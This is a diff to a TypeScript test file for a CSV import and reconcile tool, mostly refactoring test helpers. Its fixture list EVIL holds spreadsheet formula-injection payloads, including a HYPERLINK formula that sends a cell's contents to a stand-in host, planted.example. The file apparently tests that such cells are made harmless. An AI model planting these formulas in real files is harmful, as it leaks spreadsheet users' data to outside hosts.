@@ -4,7 +4,8 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openSource } from '../../src/files/open.js';
 import { displayText } from '../../src/model/row.js';
-import { csv, type Desk, type Imported, openDesk } from '../support/desk.js';
+import { type Desk, type Imported, openDesk } from '../support/desk.js';
+import { importOf } from '../support/jobs.js';
 import { partsOf } from './parts.js';
 
 /** What a spreadsheet program would run, or what another delimiter or a line break would make it run. */
@@ -28,12 +29,7 @@ const EVIL = [
   '=HYPERLINK("http://planted.example/?"&A1;"go")',
 ];
 const HEADING = '=HYPERLINK("http://planted.example")';
-const JOB = {
-  kind: 'import',
-  resource: 'supplier',
-  match: { key: 'name' },
-  columns: { Name: 'name', '@About': 'general_description', EIN: 'ein' },
-};
+const JOB = importOf('supplier', 'name', { Name: 'name', '@About': 'general_description', EIN: 'ein' });
 
 /** Leading blanks and such make no difference to a program that opens a text file. */
 const harmful = (cell: string): boolean => {
@@ -59,10 +55,10 @@ beforeAll(async () => {
   const good = EVIL.map((text, i) => [name(text, i), text, '123456789', text]);
   const bad = EVIL.map((text, i) => [name(text, i + 100), text, text, text]);
   const heading = ['Name', '@About', 'EIN', HEADING];
-  await desk.import(await desk.file('first.csv', csv([heading, ...good])), JOB);
+  await desk.import(await desk.file('first.csv', [heading, ...good]), JOB);
   const changed = good.map((cells) => cells.with(1, `${cells[1]} changed`));
-  run = await desk.import(await desk.file('second.csv', csv([heading, ...changed, ...bad])), JOB, { force: true });
-  night = await desk.reconcile(await desk.file('third.csv', csv([heading, ...good.slice(1)])), {
+  run = await desk.import(await desk.file('second.csv', [heading, ...changed, ...bad]), JOB, { force: true });
+  night = await desk.reconcile(await desk.file('third.csv', [heading, ...good.slice(1)]), {
     ...JOB,
     kind: 'reconcile',
     orphans: { action: 'report' },
